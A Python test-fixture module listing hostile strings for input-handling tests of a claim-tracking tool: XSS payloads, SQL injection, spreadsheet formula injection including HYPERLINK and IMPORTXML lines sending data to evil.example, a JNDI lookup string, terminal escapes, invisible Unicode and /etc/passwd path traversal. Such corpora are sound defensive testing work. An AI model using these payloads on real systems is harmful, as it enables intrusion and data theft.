"""One corpus of hostile strings, pushed through every path that stores, displays or exports
text (library tests in tests/test_hostile_input.py, browser tests in tests/e2e/).

The script payloads set `window.__pwned` as well as calling alert(), so a browser test can
check both that no dialog opened and that no script ran silently.
"""

HOSTILE = [
    "<script>window.__pwned=1;alert('script')</script>",
    '<img src=x onerror="window.__pwned=1;alert(1)">',
    "\"><svg/onload=window.__pwned=1;alert('svg')>",
    "<a href=\"javascript:window.__pwned=1;alert('href')\">source</a>",
    "</textarea></script><script>window.__pwned=1</script>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "javascript:window.__pwned=1",
    "'; DROP TABLE claims; --",
    "Robert'); DELETE FROM claim_history WHERE '1'='1",
    "1 OR 1=1 UNION SELECT * FROM reports --",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Pokrovsk \u202etxt.exe",  # right-to-left override
    "Kup\u200bians\u200dk\u2060",  # zero-width space, joiner, word joiner
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "]]><!--<x>--><![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

# Too long for any claim field (the store refuses it with a clear message).
HUGE = "Бахмут-" * 149_796  # 1,048,572 characters (over 1 MB)

# Source URLs that must never become a link.
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
]

# -- the wider corpus (issue 14): every string here fits a claim's name and is stored as is;
# front ends must show it inert (CLI: no markup, escapes made visible; dashboard: no Markdown,
# no HTML; exports: data, not code).
RICH_MARKUP = [
    "Pokrovsk [/bold] north",
    "Pokrovsk [/i]",
    "[bold red]Kupiansk[/]",
    "[link=https://evil.example/?q=1]Kupiansk[/link]",
    "[white on white]hidden text[/white on white]",
    "[blink]x[/blink] [reverse]y[/reverse]",
    "[/]",
    "[[escaped]] [not a tag",
    "\\[bold] backslash-escaped",
    "[red]unclosed",
    ":warning: :smiley: emoji codes",
    "[@click=app.quit]click[/]",
]
TERMINAL_ESCAPES = [
    "Kup\x1b]0;pwned\x07iansk",  # set the window title
    "clear\x1b[2J\x1b[H screen",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "bell\x07\x07",
    "back\x08\x08\x08space",
    "carriage\rreturn overwrite",
    "\x9b31mC1 CSI",
    "\x1bP+q544e\x1b\\ DCS query",
    "del\x7fete",
    "form\x0cfeed\x0bvtab",
    "line one\nline two",
    "crlf\r\ninjection",
    "tab\tseparated\tvalues",
]
INVISIBLE = [
    "Pokrovsk \u202e north",  # right-to-left override
    "\u202dleft-to-right override",
    "\u2066isolate\u2069 \u2067rtl isolate\u2069 \u2068first strong\u2069",
    "\u200fRLM\u200eLRM",
    "zero\u200bwidth\u200dspace\u2060",
    "\ufeffBOM at start",
    "soft\u00adhyphen",
    "\u2028line separator\u2029paragraph separator",
    "\u180emongolian vowel separator",
    "tag chars \U000e0041\U000e0042",
    "private use \ue000\uf8ff",
    "\u061c arabic letter mark",
    "variation\ufe0f selector",
    "interlinear \ufff9a\ufffab\ufffb",
]
MARKDOWN = [
    "![t](http://host.example/track.png)",
    "![](https://evil.example/pixel.gif)",
    "[Kupiansk](javascript:alert(1))",
    "[click](http://evil.example)",
    "<http://evil.example/autolink>",
    "https://evil.example/bare-url",
    "www.evil.example",
    "spy@evil.example",
    "**bold** __bold__ *em* _em_ ~~strike~~",
    "`code` ```fence```",
    "# Heading",
    "> quote",
    "- list item",
    "1. ordered",
    "| a | b |",
    ":red[coloured] :blue-background[x]",
    ":material/warning: icon",
    "$x^2$ $$\\int$$",
    "&lt;img src=x&gt; &#60;script&#62;",
    "[ref]: http://evil.example",
]
HTML = [
    "<img src=http://host.example/track.png>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=x></form>",
    "<details open ontoggle=window.__pwned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<a href="http://evil.example" target=_blank>phish</a>',
    "<object data=http://evil.example/x.swf></object>",
    "<video src=x onerror=window.__pwned=1></video>",
    "<body onload=window.__pwned=1>",
    "<!-- comment --> <![CDATA[x]]>",
    "'\"><img src=x onerror=window.__pwned=1>",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-1+1",
    "@SUM(A1:A2)",
    '=IMPORTXML("http://evil.example","//a")',
    "\r=1+1",
    "'=already quoted",
]
OTHER = [
    "Z̸̢̛͔̲a̵͎͐l̴̰̈g̷̱̀o̵̤͑ combining marks",
    "👨‍👩‍👧‍👦 family ZWJ emoji",
    "ＦＵＬＬＷＩＤＴＨ ｓｃｒｉｐｔ",
    "ﬁ ligature ﬀ",
    "ǅ Ǆ titlecase digraphs",
    "İstanbul ß ẞ case folding",
    "../../etc/passwd",
    "C:\\Windows\\System32",
    "%s%s%n format string",
    "{0} {name} {{}}",
    "${jndi:ldap://evil.example/a}",
    "null",
    "None",
    "undefined",
    "NaN",
    "-0",
    "1e400",
    "true",
    "\\N",
    "' OR '1'='1",
    '"; DROP TABLE claim_history; --',
    "ZWNJ\u200cZWJ\u200d",
    "x" * 200,  # exactly the name limit
    "Ї" * 200,
]
STORED_CORPUS = (
    HOSTILE + RICH_MARKUP + TERMINAL_ESCAPES + INVISIBLE + MARKDOWN + HTML + FORMULAS + OTHER
)

# Text no claim field takes: refused with one clear line, nothing written.
REFUSED_TEXT = [
    "NUL\x00byte",
    "\x00",
    "lone \ud800 surrogate",
    "low \udfff surrogate",
    "x" * 201,  # one over the name limit
    HUGE,  # over 1 MB
]

# Values that are wrong where they enter: (option, value) for `tracker add`.
BAD_OPTIONS = [
    ("--date", "2025-12-01garbage"),
    ("--date", "2025-12-01T99:99:99<script>"),
    ("--date", "2025-12-01<script>alert(1)</script>"),
    ("--date", "2025-12-01\x00"),
    ("--date", "2025-12-01\u202e"),
    ("--date", "20251201"),
    ("--date", "2025-W48-1"),
    ("--date", "2025-02-30"),
    ("--date", "0000-01-01"),
    ("--date", "9999-12-31"),
    ("--date", "2013-12-31"),
    ("--date", "yesterday"),
    ("--date", ""),
    ("--date", "1e400"),
    ("--reported", "2025-12-01garbage"),
    ("--reported", "NaN"),
    ("--precision", "inf"),
    ("--precision", "-inf"),
    ("--precision", "nan"),
    ("--precision", "1e400"),
    ("--precision", "0"),
    ("--precision", "4"),
    ("--precision", "1.5"),
    ("--precision", "one"),
    ("--precision", "True"),
    ("--time-precision", "inf"),
    ("--time-precision", "1e400"),
    ("--time-precision", "-1"),
    ("--at", "inf,37"),
    ("--at", "48,inf"),
    ("--at", "nan,nan"),
    ("--at", "1e400,37"),
    ("--at", "91,37"),
    ("--at", "48,181"),
    ("--at", "48"),
    ("--at", "48,37,1"),
    ("--at", "48;37"),
    ("--at", "0x30,37"),
    ("--side", "XX"),
    ("--side", "[bold]RU"),
    ("--action", "nuke"),
    ("--action", "\x1b[2J"),
    ("--status", "proposed"),
    ("--status", "deleted"),
    ("--url", "javascript:alert(1)"),
    ("--url", "data:text/html,<script>alert(1)</script>"),
    ("--url", "file:///etc/passwd"),
    ("--url", "ftp://example.org"),
    ("--url", "//evil.example"),
]
